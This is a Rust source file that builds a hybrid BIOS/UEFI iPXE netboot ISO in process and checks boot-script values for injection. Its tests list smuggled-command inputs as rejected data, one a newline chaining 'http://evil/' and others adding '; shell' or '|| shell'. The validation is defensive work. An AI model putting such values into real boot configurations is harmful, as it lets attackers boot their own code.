//! The netboot ISO: iPXE with a script, for machines that cannot PXE boot, written in process
//! (no xorriso, no compiler). It boots from a CD and from a USB stick, in BIOS and in UEFI:
//!
//! - BIOS: El Torito (no emulation) loads ISOLINUX, which starts `ipxe.lkrn` with the script as
//!   its initrd; on a USB stick the isohybrid MBR (ISOLINUX's `isohdpfx.bin`) does the same;
//! - UEFI: the El Torito EFI entry (and, on a stick, partition 2 of type 0xEF) is a FAT image
//!   holding `EFI/BOOT/BOOTX64.EFI` (iPXE) and `EFI/BOOT/autoexec.ipxe`, which this iPXE runs.
//!
//! The script either waits for a ProxyDHCP answer with user class `pixiecore` and chains the URL
//! it gets (the generic ISO: any Daybreak, or pixiecore, on the LAN), or fetches kernel, initrd
//! and squashfs from fixed URLs (the Kairos docs' script).

use crate::ipxe;

const SECTOR: usize = 2048;

/// What the ISO's script does.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Script {
    /// Wait for a ProxyDHCP answer (user class `pixiecore`) and chain its boot file URL.
    Generic,
    /// Chain a Daybreak server's own boot script (the ISO a running server hands out).
    Chain(String),
    /// Boot the Kairos way from fixed URLs.
    Fixed(Fixed),
}

/// `${url}/${kernel}`, `${url}/${initrd}`, `root=live:${url}/${rootfs}`, `config_url=${config}`,
/// then `cmdline`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Fixed {
    pub url: String,
    pub kernel: String,
    pub initrd: String,
    pub rootfs: String,
    pub config: String,
    pub cmdline: String,
}

impl Script {
    pub fn text(&self) -> String {
        match self {
            Script::Generic => "#!ipxe\n\
                echo Daybreak netboot: waiting for a ProxyDHCP answer (user class pixiecore)\n\
                set user-class pixiecore\n\
                :retry\n\
                dhcp || goto wait\n\
                isset ${filename} || goto wait\n\
                echo Booting from ${filename}\n\
                chain ${filename} || goto wait\n\
                :wait\n\
                sleep 3\n\
                goto retry\n"
                .to_string(),
            Script::Chain(base) => format!(
                "#!ipxe\n\
                 :retry\n\
                 dhcp || goto wait\n\
                 chain {base}/_/ipxe?arch=${{buildarch}}&mac=${{net0/mac}} || goto wait\n\
                 :wait\n\
                 sleep 3\n\
                 goto retry\n"
            ),
            Script::Fixed(Fixed {
                url,
                kernel,
                initrd,
                rootfs,
                config,
                cmdline,
            }) => format!(
                "#!ipxe\n\
                 dhcp\n\
                 set url {url}\n\
                 set kernel {kernel}\n\
                 set initrd {initrd}\n\
                 set rootfs {rootfs}\n\
                 set config {config}\n\
                 set cmdline {cmdline}\n\
                 kernel ${{url}}/${{kernel}} initrd=${{initrd}} rd.neednet=1 ip=dhcp rd.cos.disable \
                 root=live:${{url}}/${{rootfs}} netboot install-mode config_url=${{config}} \
                 console=tty1 console=ttyS0 ${{cmdline}}\n\
                 initrd ${{url}}/${{initrd}}\n\
                 boot\n"
            ),
        }
    }
}

/// Why a value cannot go into the script.
#[derive(Debug, thiserror::Error, PartialEq, Eq)]
#[error("{what} {value:?} cannot go into an iPXE script (iPXE has no quoting): use printable characters, no ${{…}}, no word ';', '||', '&&' or one starting with '#'{}", if *what == "--cmdline" { "" } else { ", no spaces" })]
pub struct ScriptError {
    what: &'static str,
    value: String,
}

impl Script {
    /// Checks the fixed script's values: iPXE's `set` takes the rest of the line, so a newline
    /// or a control character would add commands.
    pub fn check(&self) -> Result<(), ScriptError> {
        if let Script::Fixed(f) = self {
            for (what, v, spaces) in [
                ("--url", &f.url, false),
                ("--kernel", &f.kernel, false),
                ("--initrd", &f.initrd, false),
                ("--rootfs", &f.rootfs, false),
                ("--config", &f.config, false),
                ("--cmdline", &f.cmdline, true),
            ] {
                // iPXE has no quoting: `set` takes the words of the rest of the line, and the
                // kernel line reads them again after expanding them.
                if v.chars().any(|c| c == ' ' && !spaces) || crate::render::check_ipxe(v).is_err() {
                    return Err(ScriptError {
                        what,
                        value: v.clone(),
                    });
                }
            }
        }
        Ok(())
    }
}

/// The ISO image, whole.
pub fn build(script: &Script) -> Vec<u8> {
    let script = script.text();
    let efi = fat_image(&[
        ("EFI", None),
        ("EFI/BOOT", None),
        ("EFI/BOOT/BOOTX64.EFI", Some(ipxe::IPXE_EFI)),
        ("EFI/BOOT/autoexec.ipxe", Some(script.as_bytes())),
    ]);
    let cfg = b"DEFAULT ipxe\nPROMPT 0\nTIMEOUT 0\nLABEL ipxe\n  KERNEL /ipxe.lkrn\n  INITRD /autoexec.ipxe\n";
    let files: [(&str, &[u8]); 6] = [
        ("BOOT.CAT", &[0u8; SECTOR]),
        ("ISOLINUX.BIN", ipxe::ISOLINUX_BIN),
        ("LDLINUX.C32", ipxe::LDLINUX_C32),
        ("ISOLINUX.CFG", cfg),
        ("IPXE.LKRN", ipxe::IPXE_LKRN),
        ("AUTOEXEC.IPXE", script.as_bytes()),
    ];
    // Layout: system area (0-15), PVD 16, boot record 17, terminator 18, path tables 19-20,
    // root directory 21, then each file from a sector of its own, the FAT image last.
    let mut lba = 22usize;
    let mut placed = Vec::new();
    for (name, data) in files.iter().chain([&("EFIBOOT.IMG", efi.as_slice())]) {
        placed.push((*name, *data, lba));
        lba += data.len().div_ceil(SECTOR).max(1);
    }
    // A whole number of MiB, so the image is a sane disk too.
    let total = lba.next_multiple_of(512);
    let mut img = vec![0u8; total * SECTOR];
    let at = |name: &str| placed.iter().find(|p| p.0 == name).unwrap();
    for (_, data, lba) in &placed {
        img[lba * SECTOR..lba * SECTOR + data.len()].copy_from_slice(data);
    }

    // The root directory, its records in name order as ISO 9660 wants.
    let mut dir = Vec::new();
    dir_record(&mut dir, &[0], 21, SECTOR as u32, true);
    dir_record(&mut dir, &[1], 21, SECTOR as u32, true);
    let mut sorted = placed.clone();
    sorted.sort_by_key(|p| p.0);
    for (name, data, lba) in &sorted {
        dir_record(
            &mut dir,
            format!("{name};1").as_bytes(),
            *lba as u32,
            data.len() as u32,
            false,
        );
    }
    assert!(dir.len() <= SECTOR);
    img[21 * SECTOR..21 * SECTOR + dir.len()].copy_from_slice(&dir);
    // Path tables: just the root, little- then big-endian.
    for (sector, le) in [(19, true), (20, false)] {
        let p = &mut img[sector * SECTOR..];
        p[0] = 1;
        let lba = if le {
            21u32.to_le_bytes()
        } else {
            21u32.to_be_bytes()
        };
        p[2..6].copy_from_slice(&lba);
        p[6..8].copy_from_slice(&if le {
            1u16.to_le_bytes()
        } else {
            1u16.to_be_bytes()
        });
    }

    // Primary volume descriptor.
    {
        let p = &mut img[16 * SECTOR..17 * SECTOR];
        p[0] = 1;
        p[1..6].copy_from_slice(b"CD001");
        p[6] = 1;
        p[8..40].fill(b' ');
        p[40..72].fill(b' ');
        p[40..48].copy_from_slice(b"DAYBREAK");
        both32(&mut p[80..88], total as u32);
        both16(&mut p[120..124], 1);
        both16(&mut p[124..128], 1);
        both16(&mut p[128..132], SECTOR as u16);
        both32(&mut p[132..140], 10);
        p[140..144].copy_from_slice(&19u32.to_le_bytes());
        p[148..152].copy_from_slice(&20u32.to_be_bytes());
        let mut root = Vec::new();
        dir_record(&mut root, &[0], 21, SECTOR as u32, true);
        p[156..156 + 34].copy_from_slice(&root[..34]);
        for range in [
            190..318,
            318..446,
            446..574,
            574..702,
            702..739,
            739..776,
            776..813,
        ] {
            p[range].fill(b' ');
        }
        for range in [813..830, 830..847, 847..864, 864..881] {
            p[range.start..range.end - 1].fill(b'0');
        }
        p[881] = 1;
    }
    // El Torito boot record, and the volume set terminator.
    {
        let p = &mut img[17 * SECTOR..18 * SECTOR];
        p[1..6].copy_from_slice(b"CD001");
        p[6] = 1;
        p[7..30].copy_from_slice(b"EL TORITO SPECIFICATION");
        p[0x47..0x4b].copy_from_slice(&(at("BOOT.CAT").2 as u32).to_le_bytes());
        let t = &mut img[18 * SECTOR..19 * SECTOR];
        t[0] = 255;
        t[1..6].copy_from_slice(b"CD001");
        t[6] = 1;
    }
    // The boot catalog: BIOS (ISOLINUX, 4 virtual sectors) and EFI (the whole FAT image).
    {
        let (bin, efi_at) = (at("ISOLINUX.BIN"), at("EFIBOOT.IMG"));
        let mut c = [0u8; 128];
        c[0] = 1;
        c[4..12].copy_from_slice(b"DAYBREAK");
        c[30] = 0x55;
        c[31] = 0xaa;
        let sum = c[..32].chunks(2).fold(0u16, |s, w| {
            s.wrapping_add(u16::from_le_bytes([w[0], w[1]]))
        });
        c[28..30].copy_from_slice(&0u16.wrapping_sub(sum).to_le_bytes());
        c[32] = 0x88;
        c[38..40].copy_from_slice(&4u16.to_le_bytes());
        c[40..44].copy_from_slice(&(bin.2 as u32).to_le_bytes());
        c[64] = 0x91;
        c[65] = 0xef;
        c[66..68].copy_from_slice(&1u16.to_le_bytes());
        c[96] = 0x88;
        let efi_sectors = efi_at.1.len().div_ceil(512) as u16;
        c[102..104].copy_from_slice(&efi_sectors.to_le_bytes());
        c[104..108].copy_from_slice(&(efi_at.2 as u32).to_le_bytes());
        let cat = at("BOOT.CAT").2 * SECTOR;
        img[cat..cat + 128].copy_from_slice(&c);
    }
    // ISOLINUX's boot information table (what mkisofs -boot-info-table writes).
    {
        let (_, data, lba) = *at("ISOLINUX.BIN");
        let start = lba * SECTOR;
        let file = &mut img[start..start + data.len()];
        let csum = file[64..].chunks(4).fold(0u32, |s, w| {
            let mut b = [0u8; 4];
            b[..w.len()].copy_from_slice(w);
            s.wrapping_add(u32::from_le_bytes(b))
        });
        file[8..12].copy_from_slice(&16u32.to_le_bytes());
        file[12..16].copy_from_slice(&(lba as u32).to_le_bytes());
        file[16..20].copy_from_slice(&(data.len() as u32).to_le_bytes());
        file[20..24].copy_from_slice(&csum.to_le_bytes());
    }
    // The isohybrid MBR: ISOLINUX's boot code, where isolinux.bin is, and two partitions: the
    // whole image (BIOS boots from it) and the FAT image (UEFI finds an ESP there).
    {
        let mbr = &mut img[..512];
        mbr[..432].copy_from_slice(&ipxe::ISOHDPFX_BIN[..432]);
        mbr[432..436].copy_from_slice(&((at("ISOLINUX.BIN").2 * 4) as u32).to_le_bytes());
        mbr[440..444].copy_from_slice(&0x4459_4252u32.to_le_bytes());
        let efi_at = at("EFIBOOT.IMG");
        partition(&mut mbr[446..462], true, 0x00, 0, (total * 4) as u32);
        partition(
            &mut mbr[462..478],
            false,
            0xef,
            (efi_at.2 * 4) as u32,
            efi_at.1.len().div_ceil(512) as u32,
        );
        mbr[510] = 0x55;
        mbr[511] = 0xaa;
    }
    img
}

fn both16(b: &mut [u8], v: u16) {
    b[0..2].copy_from_slice(&v.to_le_bytes());
    b[2..4].copy_from_slice(&v.to_be_bytes());
}

fn both32(b: &mut [u8], v: u32) {
    b[0..4].copy_from_slice(&v.to_le_bytes());
    b[4..8].copy_from_slice(&v.to_be_bytes());
}

fn dir_record(out: &mut Vec<u8>, name: &[u8], lba: u32, len: u32, dir: bool) {
    let n = 33 + name.len();
    let total = n + (n % 2);
    let mut r = vec![0u8; total];
    r[0] = total as u8;
    both32(&mut r[2..10], lba);
    both32(&mut r[10..18], len);
    // 2026-01-01, UTC.
    r[18..25].copy_from_slice(&[126, 1, 1, 0, 0, 0, 0]);
    r[25] = if dir { 2 } else { 0 };
    both16(&mut r[28..32], 1);
    r[32] = name.len() as u8;
    r[33..33 + name.len()].copy_from_slice(name);
    out.extend_from_slice(&r);
}

/// An MBR partition entry, LBA only (CHS left as the "use LBA" maximum).
fn partition(e: &mut [u8], active: bool, kind: u8, start: u32, sectors: u32) {
    e[0] = if active { 0x80 } else { 0 };
    e[1..4].copy_from_slice(&[0xfe, 0xff, 0xff]);
    e[4] = kind;
    e[5..8].copy_from_slice(&[0xfe, 0xff, 0xff]);
    e[8..12].copy_from_slice(&start.to_le_bytes());
    e[12..16].copy_from_slice(&sectors.to_le_bytes());
}

/// A FAT12 image holding `entries` (directories as `None`, in an order where each directory
/// comes before what it holds). Names are 8.3 where they fit, else a long name (one VFAT entry
/// of up to 13 characters) with a generated short one.
fn fat_image(entries: &[(&str, Option<&[u8]>)]) -> Vec<u8> {
    const BPS: usize = 512;
    let data_bytes: usize = entries
        .iter()
        .map(|(_, d)| d.map_or(BPS, |d| d.len().div_ceil(BPS).max(1) * BPS))
        .sum();
    // One sector a cluster; FAT12 holds up to 4,084 clusters.
    let clusters = data_bytes / BPS + 16;
    assert!(clusters < 4085, "the EFI image is too large for FAT12");
    let fat_sectors = (clusters + 2).div_ceil(2) * 3 / BPS + 1;
    let root_entries = 16usize;
    let root_sectors = root_entries * 32 / BPS;
    let first_data = 1 + 2 * fat_sectors + root_sectors;
    let total = first_data + clusters;
    let mut img = vec![0u8; total * BPS];
    {
        let b = &mut img[..BPS];
        b[0..3].copy_from_slice(&[0xeb, 0x3c, 0x90]);
        b[3..11].copy_from_slice(b"DAYBREAK");
        b[11..13].copy_from_slice(&(BPS as u16).to_le_bytes());
        b[13] = 1;
        b[14..16].copy_from_slice(&1u16.to_le_bytes());
        b[16] = 2;
        b[17..19].copy_from_slice(&(root_entries as u16).to_le_bytes());
        b[19..21].copy_from_slice(&(total as u16).to_le_bytes());
        b[21] = 0xf8;
        b[22..24].copy_from_slice(&(fat_sectors as u16).to_le_bytes());
        b[24..26].copy_from_slice(&32u16.to_le_bytes());
        b[26..28].copy_from_slice(&64u16.to_le_bytes());
        b[38] = 0x29;
        b[39..43].copy_from_slice(&0x4442_4b31u32.to_le_bytes());
        b[43..54].copy_from_slice(b"DAYBREAK   ");
        b[54..62].copy_from_slice(b"FAT12   ");
        b[510] = 0x55;
        b[511] = 0xaa;
    }
    let mut fat = vec![0u16; clusters + 2];
    fat[0] = 0xff8;
    fat[1] = 0xfff;
    let mut next = 2usize;
    // Each directory's cluster, by path ("" is the root directory, which has a fixed region).
    let mut dirs: Vec<(String, usize, usize)> = vec![(String::new(), 0, 0)];
    let mut seq = 1;
    for (path, data) in entries {
        let (parent, name) = path.rsplit_once('/').unwrap_or(("", path));
        let cluster = next;
        let len = data.map_or(0, |d| d.len());
        let n = data.map_or(1, |d| d.len().div_ceil(BPS).max(1));
        for (c, entry) in fat.iter_mut().enumerate().skip(cluster).take(n) {
            *entry = if c + 1 == cluster + n {
                0xfff
            } else {
                (c + 1) as u16
            };
        }
        next += n;
        let off = (first_data + cluster - 2) * BPS;
        match data {
            Some(d) => img[off..off + d.len()].copy_from_slice(d),
            None => {
                let parent_cluster = dirs.iter().find(|d| d.0 == parent).unwrap().1;
                let dot = short_entry(*b".          ", 0x10, cluster, 0);
                let dotdot = short_entry(*b"..         ", 0x10, parent_cluster, 0);
                img[off..off + 32].copy_from_slice(&dot);
                img[off + 32..off + 64].copy_from_slice(&dotdot);
                dirs.push((path.to_string(), cluster, 2));
            }
        }
        let mut records = Vec::new();
        let attr = if data.is_none() { 0x10 } else { 0x20 };
        match short_name(name) {
            Some(short) => records.push(short_entry(short, attr, cluster, len)),
            None => {
                let short = generated_short(name, seq);
                seq += 1;
                records.push(long_entry(name, checksum(&short)));
                records.push(short_entry(short, attr, cluster, len));
            }
        }
        let d = dirs.iter_mut().find(|d| d.0 == parent).unwrap();
        let base = if d.0.is_empty() {
            (1 + 2 * fat_sectors) * BPS
        } else {
            (first_data + d.1 - 2) * BPS
        };
        for r in records {
            let at = base + d.2 * 32;
            img[at..at + 32].copy_from_slice(&r);
            d.2 += 1;
        }
    }
    for copy in 0..2 {
        let start = (1 + copy * fat_sectors) * BPS;
        for (i, v) in fat.iter().enumerate() {
            let at = start + i * 3 / 2;
            if i % 2 == 0 {
                img[at] = *v as u8;
                img[at + 1] = (img[at + 1] & 0xf0) | ((*v >> 8) as u8 & 0x0f);
            } else {
                img[at] = (img[at] & 0x0f) | ((*v as u8) << 4);
                img[at + 1] = (*v >> 4) as u8;
            }
        }
    }
    img
}

fn short_name(name: &str) -> Option<[u8; 11]> {
    let (base, ext) = name.split_once('.').unwrap_or((name, ""));
    let ok = |s: &str, max: usize| {
        s.len() <= max
            && s.bytes()
                .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_')
    };
    if base.is_empty() || !ok(base, 8) || !ok(ext, 3) {
        return None;
    }
    let mut s = [b' '; 11];
    s[..base.len()].copy_from_slice(base.as_bytes());
    s[8..8 + ext.len()].copy_from_slice(ext.as_bytes());
    Some(s)
}

fn generated_short(name: &str, seq: u8) -> [u8; 11] {
    let (base, ext) = name.rsplit_once('.').unwrap_or((name, ""));
    let clean = |s: &str| -> Vec<u8> {
        s.bytes()
            .filter(|b| b.is_ascii_alphanumeric())
            .map(|b| b.to_ascii_uppercase())
            .collect()
    };
    let mut s = [b' '; 11];
    let b = clean(base);
    let b = &b[..b.len().min(6)];
    s[..b.len()].copy_from_slice(b);
    s[b.len()] = b'~';
    s[b.len() + 1] = b'0' + seq;
    let e = clean(ext);
    let e = &e[..e.len().min(3)];
    s[8..8 + e.len()].copy_from_slice(e);
    s
}

fn checksum(short: &[u8; 11]) -> u8 {
    short
        .iter()
        .fold(0u8, |s, &c| s.rotate_right(1).wrapping_add(c))
}

fn short_entry(name: [u8; 11], attr: u8, cluster: usize, len: usize) -> [u8; 32] {
    let mut e = [0u8; 32];
    e[..11].copy_from_slice(&name);
    e[11] = attr;
    // 2026-01-01 00:00.
    let date: u16 = ((2026 - 1980) << 9) | (1 << 5) | 1;
    e[16..18].copy_from_slice(&date.to_le_bytes());
    e[24..26].copy_from_slice(&date.to_le_bytes());
    e[26..28].copy_from_slice(&(cluster as u16).to_le_bytes());
    e[28..32].copy_from_slice(&(len as u32).to_le_bytes());
    e
}

/// One VFAT long-name entry (names of up to 13 characters).
fn long_entry(name: &str, sum: u8) -> [u8; 32] {
    let chars: Vec<u16> = name.encode_utf16().collect();
    assert!(chars.len() <= 13, "long names are one entry here");
    let mut units = [0xffffu16; 13];
    units[..chars.len()].copy_from_slice(&chars);
    if chars.len() < 13 {
        units[chars.len()] = 0;
    }
    let mut e = [0u8; 32];
    e[0] = 0x41;
    e[11] = 0x0f;
    e[13] = sum;
    let slots = (1..11)
        .step_by(2)
        .chain((14..26).step_by(2))
        .chain((28..32).step_by(2));
    for (slot, u) in slots.zip(units) {
        e[slot..slot + 2].copy_from_slice(&u.to_le_bytes());
    }
    e
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_image_reads_back_with_our_own_iso_reader() {
        let img = build(&Script::Generic);
        let dir = testkit::tempdir("ipxe-iso");
        let p = dir.join("x.iso");
        std::fs::write(&p, &img).unwrap();
        let iso = artifacts::Iso::open(&p).unwrap();
        let e = iso.file("/autoexec.ipxe").unwrap();
        let x = e.extents[0];
        let got = &img[x.offset as usize..(x.offset + x.len) as usize];
        assert_eq!(got, Script::Generic.text().as_bytes());
        assert_eq!(
            iso.file("/ipxe.lkrn").unwrap().size(),
            ipxe::IPXE_LKRN.len() as u64
        );
        assert_eq!(&img[510..512], &[0x55, 0xaa]);
        std::fs::remove_dir_all(&dir).unwrap();
    }

    #[test]
    fn script_values_cannot_add_commands() {
        let fixed = |cmdline: &str, kernel: &str| {
            Script::Fixed(Fixed {
                url: "http://10.0.0.1".into(),
                kernel: kernel.into(),
                initrd: "i".into(),
                rootfs: "r".into(),
                config: "http://10.0.0.1/c".into(),
                cmdline: cmdline.into(),
            })
        };
        assert!(fixed("quiet nomodeset", "k").check().is_ok());
        assert!(fixed("x\nchain http://evil/", "k").check().is_err());
        // iPXE has no quoting: a word it reads as its own is refused.
        for bad in ["quiet ; shell", "a || shell", "x=${net0/mac}", "quiet #"] {
            assert!(fixed(bad, "k").check().is_err(), "{bad}");
        }
        assert!(fixed("", "k k").check().is_err());
    }

    #[test]
    fn long_names_get_a_vfat_entry() {
        assert_eq!(short_name("BOOTX64.EFI"), Some(*b"BOOTX64 EFI"));
        assert_eq!(short_name("autoexec.ipxe"), None);
        let s = generated_short("autoexec.ipxe", 1);
        assert_eq!(&s, b"AUTOEX~1IPX");
        let e = long_entry("autoexec.ipxe", checksum(&s));
        assert_eq!(e[11], 0x0f);
        assert_eq!(u16::from_le_bytes([e[1], e[2]]), u16::from(b'a'));
        assert_eq!(u16::from_le_bytes([e[30], e[31]]), u16::from(b'e'));
    }
}
